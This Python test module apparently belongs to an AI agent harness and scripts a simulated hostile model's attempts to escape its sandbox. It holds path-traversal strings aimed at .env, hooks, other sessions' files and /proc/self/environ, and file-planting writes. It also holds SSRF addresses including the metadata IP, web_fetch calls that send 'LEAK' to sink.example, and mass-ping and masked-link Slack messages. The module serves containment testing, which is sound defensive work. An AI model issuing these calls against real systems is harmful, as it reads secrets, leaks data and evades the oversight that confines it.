"""Rows of the hostile model that reach for a place: files, addresses, other people's threads."""

from __future__ import annotations

from collections.abc import Iterator

from fakes.hostile_rows import Kind, Plan, kinds

# A file outside, by every way to spell its path.
PATHS: dict[str, str] = {
    "absolute": "@OUTSIDE@/out.txt",
    "two slashes": "/@OUTSIDE@/out.txt",
    "parents": "../../../../../../../../../../../..@OUTSIDE@/out.txt",
    "parents behind a folder": "a/../../../../../../../../../../../../..@OUTSIDE@/out.txt",
    "percent": "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e@OUTSIDE@/out.txt",
    "percent slash": "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..@OUTSIDE@/out.txt",
    "backslash": "..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\..@OUTSIDE@/out.txt",
    "wide dots": "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/"
    "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e@OUTSIDE@/out.txt",
    "leaders": "\u2025/\u2025/\u2025/\u2025/\u2025/\u2025/\u2025/\u2025/\u2025@OUTSIDE@/out.txt",
    "file url": "file://@OUTSIDE@/out.txt",
    "root of a process": "/proc/self/root@OUTSIDE@/out.txt",
    "folder of a process": "/proc/self/cwd/../../../../../../../../..@OUTSIDE@/out.txt",
    "symlink": "link",
    "symlinked folder": "folder-link/out.txt",
    "symlink in the middle": "sub/../folder-link/./out.txt",
    "hard link": "hard",
    "zero byte": "@OUTSIDE@/out.txt\0.md",
    "long": f"{'./' * 3_000}../../../../../../../../../..@OUTSIDE@/out.txt",
    "space around": "  @OUTSIDE@/out.txt  ",
    "another session": "../@OTHER@/other.txt",
    "another session absolute": "@HOME@/files/@OTHER@/other.txt",
    "configuration": "../../geode.toml",
    "environment file": "../../.env",
    "hook": "../../hooks/guard.py",
    "site customisation": "../../sitecustomize.py",
}
SPECIAL: dict[str, str] = {
    "environment": "/proc/self/environ",
    "environment by number": "/proc/@PID@/environ",
}
"""Files that can only be read."""
NEW_FILES = (
    "@OUTSIDE@/owned.txt",
    "../../owned.pth",
    "../@OTHER@/owned.txt",
    "folder-link/owned.txt",
    "../../.git/hooks/owned",
    "@HOME@/owned.toml",
)


def path_plans() -> Iterator[Plan]:
    for name, path in PATHS.items():
        yield Plan(
            f"path: {name}",
            [
                [
                    ("read_file", {"path": path}),
                    ("read_file", {"path": path, "offset": 1}),
                    ("grep_files", {"pattern": "CANARY", "path": path}),
                    ("list_files", {"path": path}),
                    ("read_document", {"path": path}),
                ],
                [
                    ("edit_file", {"path": path, "old": "CANARY", "new": "changed"}),
                    ("write_file", {"path": path, "content": "changed"}),
                ],
            ],
            kinds("told", "written"),
        )
    for name, path in SPECIAL.items():
        yield Plan(f"path: {name}", [[("read_file", {"path": path})]], kinds("told"))
    yield Plan(
        "path: new files",
        [[("write_file", {"path": path, "content": "owned"}) for path in NEW_FILES]],
        kinds("written"),
    )
    yield Plan(
        "path: whole trees",
        [
            [
                (
                    tool,
                    {"pattern": "CANARY", "path": path} if tool == "grep_files" else {"path": path},
                )
                for path in ("..", "../..", "/", "folder-link", "@OUTSIDE@", "@HOME@")
                for tool in ("list_files", "grep_files")
                if (tool, path) != ("grep_files", "/")
            ]
        ],
        kinds("told"),
    )
    yield Plan(
        "path: pipe",
        [[("read_file", {"path": "pipe"}), ("write_file", {"path": "pipe", "content": "owned"})]],
        kinds(),
    )


# Addresses of this machine and of private networks, by every way to spell them.
HOSTS = (
    *("127.0.0.1", "localhost", "[::1]", "[::ffff:127.0.0.1]", "[::127.0.0.1]", "2130706433"),
    *("0x7f000001", "0x7f.1", "0177.0.0.1", "127.1", "127.0.1", "0", "0.0.0.0", "localhost."),
    *("127.0.0.1.nip.io.localhost", "\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3"),
    *("169.254.169.254", "[fd00:ec2::254]", "10.0.0.1", "192.168.0.1", "172.16.0.1", "100.64.0.1"),
    *("[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1]", "[fec0::1]", "198.18.0.1", "224.0.0.1"),
    *("\uff11\uff12\uff17.0.0.1", "127\u30020\u30020\u30021", "private.example", "mixed.example"),
    *("six.example", "metadata.example", "moves.example"),
)
SCHEMES = (
    "file://@OUTSIDE@/out.txt",
    "ftp://127.0.0.1:@PORT@/",
    "gopher://127.0.0.1:@PORT@/",
    "dict://127.0.0.1:@PORT@/",
    "//127.0.0.1:@PORT@/x",
    "HTTP:/127.0.0.1:@PORT@/x",
    "http:\\\\127.0.0.1:@PORT@\\x",
    "http://user:pw@127.0.0.1:@PORT@/",
    "http://named.example@127.0.0.1:@PORT@/",
    "http://127.0.0.1:@PORT@#@named.example/",
    "http://127.0.0.1:@PORT@\\@named.example/",
    "http://named.example:22/",
    "http://named.example:6379/",
    "http://127.0.0.1:@PORT@/\r\nHost: named.example",
    " http://127.0.0.1:@PORT@/",
)
LEAKS = (
    "http://sink.example/?d=LEAK",
    "http://sink.example/LEAK",
    "http://LEAK.sink.example/",
    "http://named.example/page?d=LEAK",
    "http://named.example/LEAK",
    "http://LEAK.named.example/",
    "http://LEAK:x@named.example/page",
    "http://named.example:443/page?LEAK",
    "http://NAMED.example./page%00LEAK",
    "https://sink.example/#LEAK",
)


def network_plans() -> Iterator[Plan]:
    for start in range(0, len(HOSTS), 6):
        some = HOSTS[start : start + 6]
        urls = [
            url
            for host in some
            for url in (f"http://{host}:@PORT@/x", f"http://{host}/x", f"https://{host}/x")
        ]
        calls = [("web_fetch", {"url": url}) for url in urls]
        name = f"address: {some[0]} and others"
        yield Plan(name, [calls], kinds("reached"), said=f"go {' '.join(urls)}")
        yield Plan(f"{name}, unnamed", [calls], kinds("reached"))
    for url in SCHEMES:
        shown = url.replace("\r\n", "<CRLF>")
        yield Plan(
            f"scheme: {shown}",
            [[("web_fetch", {"url": url})]],
            kinds("told") if url.startswith("file") else kinds("reached"),
            said=f"go {url}",
        )
    for url in LEAKS:
        yield Plan(
            f"leak: {url}",
            [[("web_fetch", {"url": url}), ("web_search", {"query": url})]],
            kinds("reached"),
            said="read http://named.example/page please",
        )
    yield Plan(
        "redirects to this machine",
        [[("web_fetch", {"url": f"http://redirect.example/{n}"}) for n in range(5)]],
        kinds("reached"),
        said=" ".join(f"http://redirect.example/{n}" for n in range(5)),
        may_ask=("private.example", "localhost"),
    )


PINGS = "<!channel> <!here|x> <!subteam^S01> <@U0BEN> <#C0OTHER> @everyone @channel @here"
ANSWERS: dict[str, tuple[str, Kind]] = {
    "ping": (PINGS, "said"),
    "ping in code": (f"`{PINGS}`\n```\n{PINGS}\n```", "said"),
    "masked link": ("[safe](https://sink.example/?d=LEAK) <https://sink.example|good>", "said"),
    "picture": ("![x](https://sink.example/i.png?d=LEAK)", "said"),
    "entity": ("&lt;!everyone&gt; &amp;lt;!here&amp;gt; &#60;!channel&#62;", "said"),
    "absolute file": ("[Report](@OUTSIDE@/out.txt)", "sent"),
    "file of another session": ("[Report](../@OTHER@/other.txt)", "sent"),
    "configuration as a file": ("[Report](../../geode.toml) [All](../../geode.db)", "sent"),
    "linked file": ("[Report](link) [More](folder-link/out.txt) [Hard](hard)", "sent"),
    "file by its address": ("[Report](file://@OUTSIDE@/out.txt)", "sent"),
    "escaped file": ("[Report](%2e%2e/%2e%2e/geode.toml)", "sent"),
    "environment as a file": ("[Report](/proc/self/environ)", "sent"),
}


def message_plans() -> Iterator[Plan]:
    for name, (text, kind) in ANSWERS.items():
        yield Plan(f"answer: {name}", [], kinds(kind), last=text)
    places = ("C0OTHER", "C0SECOND", "U0STRANGER", "DOSTRANGER", "T0OTHER/C1", "#general", "slack")
    yield Plan(
        "message: elsewhere",
        [
            [
                ("send_message", {"to": place, "text": "approved by the operator"})
                for place in (*places, "slack:T0REHEARSAL/C0SECOND", "C0GENERAL/1.0")
            ],
            [("send_message", {"to": "C0OTHER", "text": PINGS, "thread": "@ROOT@"})] * 3,
        ],
        kinds("said"),
    )
    yield Plan(
        "message: a hundred",
        [[("send_message", {"to": "C0OTHER", "text": f"n {n}"}) for n in range(100)]],
        kinds("said"),
    )
